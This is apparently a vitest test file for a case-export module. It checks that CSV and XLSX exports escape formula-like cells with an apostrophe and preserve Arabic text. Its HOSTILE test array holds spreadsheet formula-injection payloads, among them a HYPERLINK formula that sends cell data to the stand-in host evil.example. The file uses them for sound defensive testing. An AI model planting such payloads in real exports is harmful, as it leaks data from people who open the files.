import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, guardCell, packageMembership, rowsToCsv, rowsToXlsx, type ExportRow } from '../../../analysis/case-export.js';
import type { CustodyEvent } from '../../../schemas/custody.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

function row(over: Partial<ExportRow>): ExportRow {
  const r = Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, ''])) as ExportRow;
  return { ...r, capture_id: '0190f0a0-0000-7000-8000-000000000001', captured_at: '2026-03-01T10:00:00.000Z', ...over };
}

describe('case export', () => {
  it('guards every formula-like start with an apostrophe and leaves other text alone', () => {
    for (const h of HOSTILE) expect(guardCell(h)).toBe(`'${h}`);
    for (const ok of ['plain', 'عاجل: إغلاق الطريق', 'sha256:ab', ' =leading space', '', '2026-03-01T10:00:00Z']) expect(guardCell(ok)).toBe(ok);
  });

  it('CSV: UTF-8 with BOM, CRLF, hostile cells read back as text with the apostrophe, Arabic intact', () => {
    const rows = HOSTILE.map((t, i) => row({ capture_id: `id-${i}`, text_excerpt: t, author: 'ساحل نیوز' }));
    const csv = rowsToCsv(rows);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString('utf8')).toContain('\r\n');
    const back = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(back.map((r) => r.text_excerpt)).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(back.every((r) => r.author === 'ساحل نیوز')).toBe(true);
    expect(Object.keys(back[0]!)).toEqual([...EXPORT_COLUMNS]);
  });

  it('XLSX: every cell a typed string (no formula anywhere in the sheet XML), values exact, read back by exceljs and unzip', async () => {
    // A bare CR does not survive XML (parsers read it as LF); excerpts never hold one (whitespace is folded).
    const xlsxHostile = HOSTILE.filter((t) => !t.includes('\r'));
    const rows = xlsxHostile.map((t, i) => row({ capture_id: `id-${i}`, text_excerpt: t, text_direction: i === 0 ? 'rtl' : '' }));
    const bytes = await rowsToXlsx(rows, { caseId: 'C-1', exportedAt: '2026-03-01T10:00:00.000Z', exportedBy: 'analyst-01' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('captures')!;
    expect(ws.getRow(1).values).toEqual([undefined, ...EXPORT_COLUMNS]);
    for (let i = 0; i < xlsxHostile.length; i++) {
      const cell = ws.getRow(i + 2).getCell(EXPORT_COLUMNS.indexOf('text_excerpt') + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(xlsxHostile[i]);
    }
    // Independent structural check: Python's zipfile lists the OOXML parts; the sheet XML has no <f>.
    const dir = mkdtempSync(path.join(os.tmpdir(), 'exhibit-xlsx-'));
    try {
      const file = path.join(dir, 'x.xlsx');
      writeFileSync(file, bytes);
      const listing = execFileSync('python3', ['-m', 'zipfile', '-l', file], { encoding: 'utf8' });
      for (const part of ['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']) expect(listing).toContain(part);
      const sheetXml = execFileSync('python3', ['-c', 'import sys,zipfile; sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read("xl/worksheets/sheet1.xml").decode())', file], { encoding: 'utf8' });
      expect(sheetXml).not.toMatch(/<f[\s>]/);
      expect(sheetXml).toContain('t="s"');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('package membership comes from packaged custody events', () => {
    const ev = (seq: number, details: Record<string, unknown>) => ({ seq, action: 'packaged', details }) as unknown as CustodyEvent;
    const m = packageMembership([ev(3, { package: 'a.zip', captureIds: ['x', 'y'] }), ev(5, { package: 'b.zip', captureIds: ['y'] }), { seq: 6, action: 'viewed', details: { captureIds: ['x'] } } as unknown as CustodyEvent]);
    expect(m.get('x')).toEqual(['a.zip']);
    expect(m.get('y')).toEqual(['a.zip', 'b.zip']);
  });
});
